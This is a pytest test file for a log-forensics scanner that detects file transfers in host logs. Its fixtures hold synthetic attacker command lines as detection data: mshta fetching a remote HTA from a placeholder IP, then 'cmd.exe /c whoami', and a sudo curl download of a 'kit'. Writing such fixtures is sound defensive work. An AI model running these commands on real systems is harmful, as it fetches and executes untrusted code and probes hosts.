"""The local engine: what a scan gives back, and what its options leave out."""

from __future__ import annotations

import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from log_writer import Audit, Windows
from tidewaiter.engines.local import scan
from tidewaiter.errors import NothingReadableError, UsageError
from tidewaiter.pipeline.config import ProgressUpdate, ScanOptions
from tidewaiter.schema.moments import parse_time


@pytest.fixture
def evidence(tmp_path: Path) -> Path:
    """Two hosts: a quiet download at 10:00 and a loud one, run at once, at 11:00."""
    folder = tmp_path / "evidence"
    folder.mkdir()
    quiet, loud = Audit("web1"), Windows("ws01.example.com")
    quiet.run(0, 610, "curl", "-o", "/srv/data.json", "https://files.example.org/data.json")
    loud.start(3_600, 4100, "C:\\Windows\\System32\\mshta.exe", "mshta.exe http://198.51.100.7/a.hta")
    loud.start(3_601, 4200, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami", 4100)
    (folder / "audit.log").write_text(quiet.text(), encoding="utf-8")
    (folder / "events.json").write_text(loud.text(), encoding="utf-8")
    return folder


@pytest.mark.parametrize(
    ("options", "utilities"),
    [
        (ScanOptions(), ["curl", "mshta"]),
        (ScanOptions(min_severity="medium"), ["mshta"]),
        (ScanOptions(hosts=("WEB1",)), ["curl"]),
        (ScanOptions(hosts=("ws01",)), ["mshta"]),
        (ScanOptions(hosts=("ws01.example.com", "web1")), ["curl", "mshta"]),
        (ScanOptions(hosts=("elsewhere",)), []),
        (ScanOptions(since=parse_time("2026-01-02T10:30:00Z")), ["mshta"]),
        (ScanOptions(until=parse_time("2026-01-02T10:30:00Z")), ["curl"]),
        (ScanOptions(jobs=3), ["curl", "mshta"]),
    ],
    ids=["all", "severity", "host", "short name", "two hosts", "other host", "since", "until", "jobs"],
)
def test_options_choose_the_transfers(evidence: Path, options: ScanOptions, utilities: list[str]) -> None:
    with scan([str(evidence)], options=options) as found:
        assert [transfer.utility for transfer in found.transfers()] == utilities
        assert sum(found.counts.values()) == len(utilities)
        assert len(found.accounts) == 2, "options narrow what is shown, not what is read"


def test_a_transfer_is_found_by_the_beginning_of_its_id(evidence: Path) -> None:
    with scan([str(evidence)]) as found:
        first, second = found.transfers()

        assert found.find(first.id) == first
        assert found.find(second.id[:12]) == second
        assert found.find("") is None
        assert found.find("no such id") is None


def test_copies_of_a_log_without_a_host_get_ids_of_their_own(tmp_path: Path) -> None:
    for name in ("first", "second"):
        (tmp_path / name).mkdir()
        with sqlite3.connect(tmp_path / name / "History") as database:
            database.executescript(
                "CREATE TABLE downloads (id INTEGER, full_path TEXT, url TEXT, start_time INTEGER, received_bytes INTEGER,"
                " total_bytes INTEGER, state INTEGER);"
                "CREATE TABLE urls (id INTEGER);"
                "INSERT INTO downloads VALUES (1, '/home/ann/a.zip', 'https://files.example.org/a.zip', 1767348000, 5, 5, 1);"
            )
        database.close()
    with scan([str(tmp_path)]) as found:
        ids = [transfer.id for transfer in found.transfers()]

        assert len(ids) == 2
        assert ids[1] == f"{ids[0]}-2"
        assert found.find(ids[0]) is not None


def test_progress_ends_with_all_bytes(evidence: Path) -> None:
    told: list[ProgressUpdate] = []
    with scan([str(evidence)], progress=told.append):
        pass

    assert [update.done for update in told] == sorted(update.done for update in told)
    assert told[-1].done == told[-1].total == sum(path.stat().st_size for path in evidence.iterdir())
    assert {update.what for update in told} == {str(path) for path in evidence.iterdir()}


def test_nothing_readable_is_an_error_that_says_what_to_give(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("nothing of interest\n")

    with pytest.raises(NothingReadableError, match="give EVTX"):
        scan([str(tmp_path)])


def test_an_unknown_severity_is_a_usage_error() -> None:
    with pytest.raises(UsageError, match="loud"):
        ScanOptions(min_severity="loud")


def test_a_script_that_scans_without_a_guard_is_not_run_again_by_the_workers(evidence: Path, tmp_path: Path) -> None:
    script = tmp_path / "mine.py"
    script.write_text(
        "import sys\nfrom tidewaiter.engines.local import scan\nprint('here')\n"
        "with scan(sys.argv[1:]) as found:\n    print(len(list(found.transfers())))\n"
    )
    done = subprocess.run([sys.executable, script, evidence], capture_output=True, text=True, check=False, timeout=60)

    assert (done.stdout.split(), done.stderr) == (["here", "2"], "")


def test_the_temporary_files_are_gone_afterwards(evidence: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    before = set(tmp_path.iterdir())
    with scan([str(evidence)]) as found:
        assert list(found.transfers())
        assert set(tmp_path.iterdir()) > before

    assert set(tmp_path.iterdir()) == before


def test_a_log_without_years_gets_that_of_the_logs_beside_it(tmp_path: Path) -> None:
    log = Audit("web1")
    log.run(60, 7, "ls", "-l")
    (tmp_path / "audit.log").write_text(log.text(), encoding="utf-8")
    line = "Jan  2 10:00:20 web1 sudo:    ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/usr/bin/curl -O http://203.0.113.9/kit\n"
    (tmp_path / "auth.log").write_text(line, encoding="utf-8")
    with scan([str(tmp_path)]) as result:
        [transfer] = result.transfers()
    assert transfer.time == "2026-01-02T10:00:20Z"
